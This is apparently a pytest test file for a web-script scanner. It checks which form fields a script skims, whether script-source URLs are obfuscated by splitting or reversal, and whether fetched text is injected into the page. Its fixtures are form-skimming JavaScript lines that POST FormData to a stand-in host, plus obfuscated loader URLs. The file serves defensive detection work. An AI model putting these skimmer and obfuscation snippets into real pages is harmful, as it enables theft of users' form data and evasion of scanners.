"""Whose fields a script takes, read from its text."""

from __future__ import annotations

import pytest

from cyberscan.parse.scripts.script import read

SENT = "fetch('https://surat.example/s',{mode:'no-cors',method:'POST',body:"
TWO = (
    "var a=document.getElementById('a'),b=document.getElementById('b');a.onsubmit=b.onsubmit=e=>"
    f"{SENT}new FormData(e.target)}})"
)


def named(source: str) -> set[str]:
    code = read(source, "s")
    assert code is not None
    return {trait.removeprefix("of:") for trait in code.traits if trait.startswith("of:")}


@pytest.mark.parametrize(
    ("source", "names"),
    [
        (f"var f=document.getElementById('Kabar');{SENT}new FormData(f)}})", "kabar"),
        (f"$('#kabar').on('submit',function(){{{SENT}$(this).serialize()}})}})", "kabar"),
        (f"document.forms.kabar.onsubmit=e=>{SENT}new FormData(e.target)}})", "kabar"),
        (f"document.forms['kabar'].onsubmit=e=>{SENT}new FormData(e.target)}})", "kabar"),
        (f"var f=document.querySelector('form.kabar');{SENT}new FormData(f)}})", ".kabar"),
        (f"var f=document.querySelector('form[id=\"k\"]');{SENT}new FormData(f)}})", "k"),
        (f"{SENT}new FormData(document.getElementById('kabar'))}})", "kabar"),
        (f"{SENT}document.getElementById('surel').value}})", "surel"),
        (f"{SENT}document.querySelector('#k input[name=email]').value}})", "email"),
        (TWO, "a b"),
    ],
)
def test_forms_that_are_named(source: str, names: str) -> None:
    assert named(source) == set(names.split())


@pytest.mark.parametrize(
    "source",
    [
        f"document.forms[0].onsubmit=e=>{SENT}new FormData(e.target)}})",
        f"document.addEventListener('submit',e=>{SENT}new FormData(e.target)}}))",
        f"onsubmit=e=>{SENT}new FormData(e.target)}})",
        f"var f=document.querySelector('form');{SENT}new FormData(f)}})",
        f"var f=document.querySelector('.a .b');{SENT}f.querySelector('input').value}})",
        f"function k(f){{{SENT}new FormData(f)}})}}k(document.getElementById('kabar'))",
        f"{SENT}new FormData(cari('kabar'))}})",
        f"{SENT}new FormData(document.getElementById('k').ownerDocument.forms[0])}})",
        f"{SENT}document.getElementById('u').value}})",
        f"{SENT}document.getElementById('email').value+document.getElementById('u').value}})",
        f"var f=document.getElementById('k');f=document.querySelector(s);{SENT}new FormData(f)}})",
        f"var f=document.getElementById(i);f.onsubmit=()=>{SENT}new FormData(f)}})",
    ],
)
def test_forms_that_may_be_any(source: str) -> None:
    assert named(source) == set()


@pytest.mark.parametrize(
    ("address", "trait"),
    [
        ("['ht','tps:','//','cmp.','izinkuki','.example','/a'].join('')", "pieced"),
        ("'//'+'cmp.'+'izinkuki'+'.example'+'/a'", "pieced"),
        ("['https:/','/cmp.izin','kuki.ex','ample/a'].join('')", "disguised"),
        ("'https://izinkuki.'+'exa'+'mple/a'", "disguised"),
        ("'https://'+'a.'+'ku'+'.example'", "disguised"),
        ("'elpmaxe.ikukizi//:sptth'.split('').reverse().join('')", "disguised"),
    ],
)
def test_where_an_address_is_cut(address: str, trait: str) -> None:
    code = read(f"var s=document.createElement('script');s.src={address}", "s")
    assert code is not None
    assert {"pieced", "disguised"} & {*code.traits} == {trait}


@pytest.mark.parametrize(
    ("source", "fills"),
    [
        ("fetch(u).then(r=>r.text()).then(h=>{k.innerHTML=h})", True),
        ("k.innerHTML=await (await fetch(u)).text()", True),
        ("x.onload=function(){k.innerHTML=x.responseText}", True),
        ("fetch(u).then(r=>r.text()).then(h=>$('#k').html(h))", True),
        ("fetch(u).then(r=>r.json()).then(h=>{k.innerHTML=h})", False),
        ("fetch(u).then(r=>r.text()).then(h=>{k.innerHTML=bersih(h)})", False),
        ("fetch(u).then(r=>r.text()).then(h=>{k.innerHTML='<p>'+h+'</p>'})", False),
    ],
)
def test_answers_that_are_put_into_the_page(source: str, fills: bool) -> None:
    code = read(f"{source};eval(y)", "s")
    assert code is not None
    assert ("fills" in code.traits) is fills
